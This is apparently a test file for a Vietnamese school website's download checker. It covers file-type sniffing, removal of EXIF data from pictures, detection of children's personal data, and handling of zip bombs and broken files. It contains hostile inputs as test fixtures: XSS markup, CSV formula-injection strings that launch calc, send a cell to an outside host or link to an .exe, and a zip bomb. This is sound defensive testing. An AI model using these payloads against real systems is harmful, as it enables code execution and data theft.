import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { strToU8, unzipSync, zipSync } from 'fflate';
import sharp from 'sharp';
import { afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { cleanPictures } from '../../../src/io/downloads/clean-pictures.ts';
import { knownDownload } from '../../../src/io/downloads/known-download.ts';
import { readFiles } from '../../../src/io/downloads/read-files.ts';
import type { FileToRead } from '../../../src/io/downloads/text-findings.ts';
import type { Limits } from '../../../src/io/watched/log-line.ts';
import { readContent } from '../../../src/io/read-content.ts';
import { copyDownloads, schoolFolders } from '../../../src/io/school-folders.ts';
import { folderEntries } from '../../../src/io/folder-entries.ts';
import { otherFormat } from '../../../src/model/download/leading-bytes.ts';
import { pictureMetadata, withoutMetadata } from '../../../src/model/download/picture-metadata.ts';
import { cleanFiles } from '../../support/content-folder.ts';
import {
  docxWith,
  mp3,
  mp4,
  paragraph,
  pdfWith,
  pdfWithObjects,
  picture,
  sampleDownloads,
  xlsxWith,
} from '../../support/downloads.ts';
import { readInProcesses } from '../../support/reading-thread.ts';
import { readTogether } from '../../support/read-together.ts';

const clean = await picture('jpeg', { fromPhone: false });
let root = '';
const at = (path: string) => join(root, path);
const put = (path: string, what: string | Uint8Array) => {
  mkdirSync(dirname(at(path)), { recursive: true });
  writeFileSync(at(path), what);
};

const findingsOf = (files: Iterable<readonly [string, FileToRead]>, limitsOf: (bytes: number) => Limits) => [
  ...readFiles(new Map(files), new Map(), [], limitsOf).findings.values(),
];

beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'dan-biet-tai-ve-'));
  for (const [name, text] of Object.entries(cleanFiles)) put(`content/${name}`, text);
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

/** What the checker says of one file in `public/tep/`: `line code message`. */
function issuesOf(name: string, what: string | Uint8Array): string[] {
  put(`public/tep/${name}`, what);
  const { issues } = readContent(at('content'), root, '2026-11-22', at('public'));
  return issues
    .filter(({ file }) => file === `public/tep/${name}`)
    .map(({ line, code, message }) => `${line} ${code} ${message}`);
}

const published = () => {
  copyDownloads(schoolFolders(at('content'), at('public')), at('site'));
  return folderEntries(at('site')).map(({ path }) => path);
};

describe('the bytes of a download', () => {
  test('are what the ending says, for each pair of kinds', async () => {
    const samples = await sampleDownloads();
    const alike = [
      ['docx', 'xlsx'],
      ['jpg', 'jpeg'],
      ['csv', 'txt'],
    ];
    for (const [ending, bytes] of Object.entries(samples))
      for (const other of Object.keys(samples)) {
        const isAlike = ending === other || alike.some((each) => each.includes(ending) && each.includes(other));
        expect([ending, other, otherFormat(other, bytes) === null]).toEqual([ending, other, isAlike]);
      }
  });

  test.each<[string, string | Uint8Array, string]>([
    ['a.pdf', '<!doctype html><script>alert(1)</script>', 'trang web hoặc hình SVG'],
    ['a.png', '<svg xmlns="http://www.w3.org/2000/svg"/>', 'trang web hoặc hình SVG'],
    ['a.txt', '\ufeff \n<html>', 'trang web hoặc hình SVG'],
    ['a.txt', '<!-- Thông báo -->\n<svg onload="alert(1)"/>', 'trang web hoặc hình SVG'],
    ['a.csv', '\ufeff<?xml-stylesheet href="a"?>', 'trang web hoặc hình SVG'],
    ['a.txt', `${'Thông báo. '.repeat(99)}<SCRIPT src="a"></SCRIPT>`, 'trang web hoặc hình SVG'],
    ['a.csv', 'Lớp,<iframe src="a">', 'trang web hoặc hình SVG'],
    ['a.txt', '<b>Thông báo</b>', 'trang web hoặc hình SVG'],
    ['a.csv', Buffer.from('\ufeffLớp,Trẻ', 'utf16le'), 'chữ UTF-16'],
    ['a.csv', Buffer.from('a\0b'), 'tệp không rõ kiểu'],
    ['a.txt', '', 'tệp trống'],
    ['a.jpg', Buffer.from('\0\0\0\x18ftypheic\0\0\0\0', 'latin1'), 'ảnh HEIC của điện thoại'],
    ['a.mp4', Buffer.from('\0\0\0\x14ftypqt  \0\0\0\0', 'latin1'), 'phim QuickTime'],
    [
      'a.xlsx',
      Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
      'tệp Word, Excel có mật khẩu hoặc kiểu cũ (.doc, .xls)',
    ],
    ['a.mp3', mp4, 'phim MP4'],
  ])('%s with other bytes is refused and never published', (name, bytes, inside) => {
    const ending = name.split('.')[1];
    expect(issuesOf(name, bytes)).toEqual([`1 tai-ve-khac-duoi đuôi “.${ending}”, bên trong là ${inside}.`]);
    expect(published()).toEqual([]);
  });

  test.each([
    '<img src=x onerror=alert(1)>',
    '<math><mi xlink:href="javascript:1">',
    '<STYLE>@import "//a"</style>',
    '<form action="https://noi-khac.example">',
    '<svg/onload=alert(1)>',
    '<x:script xmlns:x="a">',
    '</script >',
    '<meta http-equiv="refresh" content="0">',
    '<video\nsrc=a>',
    '<base/>',
    '<a class="x" href="javascript:1">',
    '<b onclick = "a()">',
    '<lop/onfocus=a autofocus>',
  ])('a text with %s somewhere is taken for a page', (markup) => {
    for (const ending of ['txt', 'csv'])
      expect(otherFormat(ending, Buffer.from(`Lớp,Số trẻ\n${'Mầm,25\n'.repeat(500)}"${markup}",1\n`))).toBe(
        'trang web hoặc hình SVG',
      );
  });

  test.each([
    'a < b và b > c',
    'x<y>z; m<n',
    'trống: <trống>',
    'cân nặng <bodyweight',
    'lớp <a',
    'gồm <imagine> <formula> <linked>',
    'tuổi<5 và on = 3, src = 4',
    'if (i<n; on=1)',
    '1 <2> 3, <= 4, <- 5, <3',
    'Nguyễn <a@truong-mau.example>',
    'cột <Họ và tên>, ‹img›',
  ])('a text with %s is not', (text) => {
    expect(otherFormat('txt', Buffer.from(text))).toBeNull();
  });

  test.each([
    `Lớp,"=cmd|' /C calc'!A0"`,
    "=cmd|'/C calc'!A0;25",
    'Mầm,=WEBSERVICE("https://noi-khac.example/"&A1)',
    'Mầm;"+HYPERLINK(""file://may-chu/a.exe"";""Xem"")"',
    'Mầm,  =HYPERLINK("https://bo.gov.vn@noi-khac.example","Xem")',
  ])('is no table with the formula %s, which a spreadsheet would run', (row) => {
    expect(issuesOf('a.csv', `Lớp,Số trẻ\n${row}\n`)).toEqual([
      expect.stringMatching(/^1 tai-ve-van-phong-co-them dòng 2 có (?:công thức|liên kết)/u),
    ]);
  });

  test('may be a table with figures, and formulas that only count or lead to a page', () => {
    const rows = ['-5,+3', '=1+2,=SUM(A1:A2)', '- Xem IMAGE, @lop', 'a,"=HYPERLINK(""https://vbpl.vn/"",""Xem"")"'];
    expect(issuesOf('a.csv', `Lớp,Số trẻ\n${rows.join('\n')}\n`)).toEqual([]);
  });

  test('may be a text with a sign that a page has, too', () => {
    for (const text of ['Trẻ < 3 tuổi, > 12 kg', 'Số trẻ <5', 'Gửi về <lop@truong.example>', 'bảng <Lớp>, <objective>'])
      expect(otherFormat('txt', Buffer.from(text))).toBeNull();
  });

  test('may be MP3 with a tag of its own or without', () => {
    expect([otherFormat('mp3', mp3), otherFormat('mp3', Buffer.from('ID3\x03'))]).toEqual([null, null]);
  });

  test('are not too many, which is known before they are read', () => {
    expect(issuesOf('a.txt', Buffer.alloc(5_200_000, 'a'))).toEqual(['1 tai-ve-qua-lon tệp 5,2 MB, tối đa 5 MB.']);
    expect(issuesOf('a.pdf', Buffer.alloc(25_000_001, 'a'))).toEqual(['1 tai-ve-qua-lon tệp 25 MB, tối đa 25 MB.']);
    expect(published()).toEqual([]);
  });
});

test('a download is read once as long as nobody writes it, and again when somebody does', () => {
  put('a.txt', 'một');
  const first = knownDownload(root, 'a.txt');
  expect(knownDownload(root, 'a.txt')).toBe(first);
  const { atime, mtime } = statSync(at('a.txt'));
  put('a.txt', 'hai');
  utimesSync(at('a.txt'), atime, mtime);
  expect(knownDownload(root, 'a.txt').sha256).not.toBe(first.sha256);
});

describe('a picture', () => {
  test.each(['jpeg', 'png', 'webp'] as const)(
    'from a telephone (%s) is refused, and cleaned without being turned',
    async (format) => {
      const name = `a.${format}`;
      expect(issuesOf(name, await picture(format))).toMatchObject([
        expect.stringContaining('1 anh-con-thong-tin ảnh còn EXIF'),
      ]);
      expect(published()).toEqual([]);
      expect([...cleanPictures(schoolFolders(at('content'), at('public')))]).toEqual([at(`public/tep/${name}`)]);
      const cleaned = readFileSync(at(`public/tep/${name}`));
      expect(pictureMetadata(format, cleaned)).toEqual([]);
      // The telephone was turned by a quarter, which is all that is still said; no point of the picture changes.
      const { width, height, orientation, exif, format: kept } = await sharp(cleaned).metadata();
      expect({ width, height, orientation, kept }).toEqual({ width: 40, height: 20, orientation: 6, kept: format });
      expect(exif?.includes('Maker')).toBe(false);
      expect(cleaned.includes('Somebody')).toBe(false);
      const points = (bytes: Uint8Array) => sharp(bytes).raw().toBuffer();
      expect((await points(cleaned)).equals(await points(await picture(format)))).toBe(true);
      expect(issuesOf(name, cleaned)).toEqual([]);
      expect([...cleanPictures(schoolFolders(at('content'), at('public')))]).toEqual([]);
    },
  );

  test('in a PDF is cleaned there too, but not below a signature, which is for the bytes as they are', async () => {
    const jpeg = await picture('jpeg');
    const image = Buffer.concat([
      Buffer.from(`8 0 obj << /Subtype /Image /Filter /DCTDecode /Length ${jpeg.length} >>\nstream\n`),
      jpeg,
      Buffer.from('\nendstream endobj'),
    ]);
    const refused = ['1 anh-con-thong-tin ảnh trong tệp PDF còn EXIF (máy chụp, ngày giờ, có thể cả vị trí).'];
    const clean = () => [...cleanPictures(schoolFolders(at('content'), at('public')))];
    expect(issuesOf('a.pdf', pdfWithObjects('', image))).toEqual(refused);
    expect(clean()).toEqual([at('public/tep/a.pdf')]);
    expect(issuesOf('a.pdf', readFileSync(at('public/tep/a.pdf')))).toEqual([]);
    expect(issuesOf('a.pdf', pdfWithObjects('/A << /ByteRange [0 1 2 3] >>', image))).toEqual(refused);
    expect(clean()).toEqual([]);
  });

  test.each(['jpeg', 'png', 'webp'] as const)(
    'from a telephone (%s) that has a film after its end is refused, and cleaned of it',
    async (format) => {
      const moving = Buffer.concat([await picture(format, { fromPhone: false }), mp4, Buffer.from('GPS 20.8')]);
      expect(pictureMetadata(format, moving)).toEqual([expect.stringContaining('dữ liệu nối sau ảnh')]);
      expect(withoutMetadata(format, moving)).toEqual(new Uint8Array(await picture(format, { fromPhone: false })));
      const filled = Buffer.concat([await picture(format, { fromPhone: false }), Buffer.alloc(20)]);
      expect(pictureMetadata(format, filled)).toEqual([]);
    },
  );

  test('that is cut off anywhere, or has any byte wrong, is cleaned without an error', async () => {
    for (const format of ['jpeg', 'png', 'webp'] as const) {
      const whole = new Uint8Array(await picture(format));
      for (let length = 0; length < Math.min(whole.length, 400); length++) {
        withoutMetadata(format, whole.slice(0, length));
        withoutMetadata(format, whole.with(length, 0xff));
        withoutMetadata(format, whole.with(length, 0));
      }
    }
  });

  const segment = (marker: number, text: string) => {
    const data = Buffer.from(text, 'latin1');
    return Buffer.concat([
      clean.subarray(0, 2),
      Buffer.from([0xff, marker, 0, data.length + 2]),
      data,
      clean.subarray(2),
    ]);
  };
  test.each([
    [0xe1, 'http://ns.adobe.com/xap/1.0/\0<x/>', 'XMP'],
    [0xed, 'Photoshop 3.0\0', 'IPTC'],
    [0xfe, 'Lớp của bé', 'phần chữ đi kèm ảnh'],
  ])('with a segment %i is refused', (marker, text, name) => {
    expect(issuesOf('a.jpg', segment(marker, text))).toEqual([`1 anh-con-thong-tin ảnh còn ${name}.`]);
  });

  test('that is cut off or lies about lengths is read without an end', async () => {
    for (const format of ['jpeg', 'png', 'webp'] as const) {
      const whole = await picture(format);
      for (let length = 0; length < Math.min(whole.length, 400); length++)
        pictureMetadata(format, whole.subarray(0, length));
      for (let index = 2; index < Math.min(whole.length, 400); index++) {
        const broken = Buffer.from(whole);
        broken.fill(0xff, index, index + 4);
        pictureMetadata(format, broken);
      }
    }
    // A chunk of no length at all moves on by its head.
    const head = (await picture('png')).subarray(0, 33);
    expect(pictureMetadata('png', Buffer.concat([head, Buffer.alloc(60)]))).toHaveLength(1);
    expect(pictureMetadata('png', Buffer.alloc(68))).toEqual([]);
  });
});

describe('personal data in a download', () => {
  const row = (...cells: string[]) => `<w:tr>${cells.map((each) => `<w:tc>${paragraph(each)}</w:tc>`).join('')}</w:tr>`;
  const table = `<w:tbl>${row('Họ tên trẻ', 'Lớp', 'Bệnh')}${row('Lê Thị Hoa', 'Mầm 2', 'tim')}</w:tbl>`;
  const deleted = '<w:p><w:del><w:r><w:delText>Gọi 0912345678</w:delText></w:r></w:del></w:p>';
  const header = {
    'word/_rels/document.xml.rels':
      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="h" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/header" Target="header1.xml"/></Relationships>',
    'word/header1.xml': `<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${paragraph('0912345678')}</w:hdr>`,
  };
  const note =
    '<comments><commentList><comment><text><t>Gọi 0912 345</t><t> 678</t></text></comment></commentList></comments>';
  const workbooks = {
    'so.xlsx': [
      ['Họ tên', 'Điện thoại'],
      ['A', 912345678],
    ],
    'lop.xlsx': [
      ['DANH SÁCH LỚP MẪU', null, null],
      ['STT', 'Họ và tên trẻ', 'Mã định danh'],
      [1, 'Xa Gia Bảo', 17320006614],
    ],
  };
  const files: Record<string, string | Uint8Array> = {
    'a.txt': 'Thông báo\r\nGọi 0912 345 678\r\n',
    'a.csv': '\ufeffHọ tên trẻ;Lớp;Bệnh\r\n"Lê Thị Hoa";"Mầm 2";tim\r\n',
    'bieu.csv': 'Biểu mẫu;;\r\nSTT;Họ và tên;Số tài khoản\r\n1;Cà Thị Pâng;7901205033418\r\n',
    'dai.txt': 'em Nguyễn Văn An lớp 6A sinh 01/02/2013, '.repeat(2400),
    'a.docx': docxWith(paragraph('Mở đầu') + paragraph('CCCD số 001234567890')),
    'b.docx': docxWith(table),
    'c.docx': docxWith(deleted),
    'd.docx': docxWith(paragraph('a'), header),
    'a.pdf': pdfWith('One', 'Phone 0912345678'),
  };
  beforeAll(async () => {
    for (const [name, rows] of Object.entries(workbooks)) files[name] = await xlsxWith(rows);
    const noted = unzipSync(await xlsxWith([['Lớp']]));
    files['noted.xlsx'] = zipSync({ ...noted, 'xl/comments1.xml': strToU8(note) });
    files['b.xlsx'] = await xlsxWith([['Lớp']], '0912345678');
    readTogether(Object.entries(files));
  });
  const issuesIn = (name: string) => issuesOf(name, files[name]!);

  test('are found in a text and in a table, at their line', () => {
    expect(issuesIn('a.txt')).toEqual(['2 so-dien-thoai-rieng gặp số di động “091…78”.']);
    expect(issuesIn('a.csv').map((each) => each.slice(0, 13))).toEqual(['2 du-lieu-tre']);
  });

  test('are found however many there are: an answer longer than a pipe takes at once', () => {
    const found = issuesIn('dai.txt');
    expect(found[0]).toMatch(/du-lieu-tre/u);
    expect(found.join('\n')).not.toContain('tai-ve-khong-doc-duoc-chu');
  });

  test('are found in a Word file: paragraphs, tables, margins, deleted words', () => {
    expect(issuesIn('a.docx')).toEqual(['1 so-dinh-danh đoạn 2: gặp số căn cước hoặc số định danh “001…90”.']);
    expect(issuesIn('b.docx').map((each) => each.slice(0, 13))).toEqual(['1 du-lieu-tre']);
    expect(issuesIn('c.docx')).toEqual(['1 so-dien-thoai-rieng đoạn 1: gặp số di động “091…78”.']);
    expect(issuesIn('d.docx')).toEqual(['1 so-dien-thoai-rieng đầu trang, chân trang: gặp số di động “091…78”.']);
  });

  test('are found in a workbook, also a number that lost its zero, and on a sheet’s name', () => {
    expect(issuesIn('so.xlsx')).toEqual(['1 so-dien-thoai-rieng trang tính “Biểu”, hàng 2: gặp số di động “091…78”.']);
    expect(issuesIn('noted.xlsx')).toEqual(['1 so-dien-thoai-rieng lời ghi chú: gặp số di động “091…78”.']);
    expect(issuesIn('b.xlsx')).toEqual(['1 so-dien-thoai-rieng tên trang tính: gặp số di động “091…78”.']);
  });

  test('are found below the heading row of a list, also with a title above it', () => {
    expect(issuesIn('lop.xlsx').map((each) => each.split(' ')[1])).toEqual(['du-lieu-tre', 'so-dinh-danh']);
    expect(issuesIn('bieu.csv').map((each) => each.slice(0, 23))).toEqual(['3 tai-khoan-ngan-hang g']);
  });

  test('are found in a PDF, at their page', () => {
    expect(issuesIn('a.pdf')).toEqual(['1 so-dien-thoai-rieng trang 2: gặp số di động “091…78”.']);
  });

  test('are found in the name of any file, and in files that no record names', () => {
    expect(issuesOf('0912345678.mp3', mp3)).toEqual(['1 so-dien-thoai-rieng tên tệp: gặp số di động “091…78”.']);
    expect(issuesOf('gui-0912-345-678.txt', 'a')).toEqual(['1 so-dien-thoai-rieng tên tệp: gặp số di động “091…78”.']);
  });

  test('of two files with the same bytes are said of both', () => {
    put('public/tep/b.txt', 'Gọi 0912345678');
    put('public/tep/a.txt', 'Gọi 0912345678');
    const { issues } = readContent(at('content'), root, '2026-11-22', at('public'));
    expect(issues.map(({ file }) => file)).toEqual(['public/tep/a.txt', 'public/tep/b.txt']);
  });
});

describe('a file that was made to stop its reader', () => {
  readInProcesses();
  const bomb = zipSync(
    {
      '[Content_Types].xml': strToU8(' '.repeat(30_000_000)),
      '_rels/.rels': strToU8('x'),
      'xl/workbook.xml': strToU8('x'),
    },
    { level: 9 },
  );
  const hostile: [string, Uint8Array | string, RegExp][] = [
    ['bomb.xlsx', bomb, /nén|lớn/u],
    ['broken.xlsx', zipSync({ 'xl/workbook.xml': strToU8('<x') }), /hỏng/u],
    ['macro.xlsx', zipSync({ 'xl/workbook.xml': strToU8('<x/>'), 'xl/vbaProject.bin': strToU8('x') }), /macro/u],
    ['word.xlsx', docxWith(paragraph('a')), /không phải bảng tính/u],
    ['excel.docx', zipSync({ 'xl/workbook.xml': strToU8('<x/>') }), /./u],
    ['cut.docx', docxWith(paragraph('a')).slice(0, 200), /./u],
    ['broken.pdf', '%PDF-1.7\nkhông phải PDF', /hỏng/u],
    ['locked.pdf', locked(), /mật khẩu/u],
  ];
  beforeAll(() =>
    readTogether([...hostile.map(([name, bytes]) => [name, bytes] as const), ['z.txt', 'Gọi 0912345678']]),
  );

  test.each(hostile)('%s is an issue in Vietnamese, and the next file is read', (name, bytes, why) => {
    put('public/tep/z.txt', 'Gọi 0912345678');
    const [issue, ...more] = issuesOf(name, bytes);
    expect(more).toEqual([]);
    expect(issue).toMatch(/^1 tai-ve-khong-doc-duoc-chu không đọc được chữ: .+[.…]$/u);
    expect(issue).toMatch(why);
    expect(issuesOf('z.txt', 'Gọi 0912345678')).toHaveLength(1);
  });

  // A pipe that nobody writes into is read without an end.
  test.skipIf(process.platform === 'win32')('and does stop it is named after a time, and the others are read', () => {
    put('a.txt', 'a');
    put('c.txt', 'Gọi 0912345678');
    execFileSync('mkfifo', [at('b')]);
    const files = ['a.txt', 'b', 'c.txt'].map((name) => [`${root}${name}`, { path: at(name), ending: 'txt' }] as const);
    const limits = (bytes: number) => ({ milliseconds: bytes === 0 ? 150 : 60_000, megabytes: 0 });
    const found = findingsOf(files, limits);
    expect(found).toEqual([
      [],
      [
        {
          code: 'tai-ve-khong-doc-duoc-chu',
          certain: true,
          words: '',
          line: 1,
          message: 'không đọc được chữ: đọc quá lâu.',
          remedy: expect.stringContaining('Chạy lại') as string,
        },
      ],
      [expect.objectContaining({ code: 'so-dien-thoai-rieng' })],
    ]);
  });

  test.skipIf(process.platform === 'win32')('and needs too much memory is named, and the others are read', () => {
    execFileSync('mkfifo', [at('b')]);
    put('c.txt', 'Gọi 0912345678');
    const files = ['b', 'c.txt'].map((name) => [`${root}${name}`, { path: at(name), ending: 'txt' }] as const);
    // The file that waits is at its limit as soon as somebody looks; the other has none.
    const limits = (bytes: number) => ({ milliseconds: 60_000, megabytes: bytes === 0 ? 1 : 0 });
    const [first, second] = findingsOf(files, limits);
    expect(first).toMatchObject([{ message: 'không đọc được chữ: cần quá nhiều bộ nhớ.' }]);
    expect(second).toMatchObject([{ code: 'so-dien-thoai-rieng' }]);
  });

  test.skipIf(process.platform === 'win32')('and did not come to its end is read again the next time', () => {
    execFileSync('mkfifo', [at('b')]);
    const read = (limits: Limits) => findingsOf([[`${root}again`, { path: at('b'), ending: 'txt' }]], () => limits)[0];
    expect(read({ milliseconds: 60_000, megabytes: 1 })).toMatchObject([{ code: 'tai-ve-khong-doc-duoc-chu' }]);
    rmSync(at('b'));
    put('b', 'Gọi 0912345678');
    expect(read({ milliseconds: 0, megabytes: 0 })).toMatchObject([{ code: 'so-dien-thoai-rieng' }]);
  });

  test.skipIf(process.platform === 'win32')('and stops it as some before did is the last that is tried', () => {
    execFileSync('mkfifo', [at('b')]);
    const files = Array.from(
      { length: 6 },
      (_, index) => [`${root}${index}`, { path: at('b'), ending: 'txt' }] as const,
    );
    const found = findingsOf(files, () => ({ milliseconds: 60_000, megabytes: 1 })).flat();
    expect(found.map(({ code }) => code)).toEqual(files.map(() => 'tai-ve-khong-doc-duoc-chu'));
    const unread = found.map(({ message }) => message.includes('chưa đọc tệp này, vì đã có 3 tệp'));
    expect(unread).toEqual([false, false, false, true, true, true]);
    expect(found.at(-1)?.remedy).toContain('Sửa các tệp làm trình đọc dừng trước');
  });

  /** A PDF that asks for a password: the standard handler with a key that is not the empty one's. */
  function locked(): Buffer {
    const trailer = `/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${'00'.repeat(32)}> /U <${'11'.repeat(32)}> >> /ID [<00> <00>]`;
    return Buffer.from(pdfWith('a').toString('latin1').replace('/Root 1 0 R', `/Root 1 0 R ${trailer}`), 'latin1');
  }
});
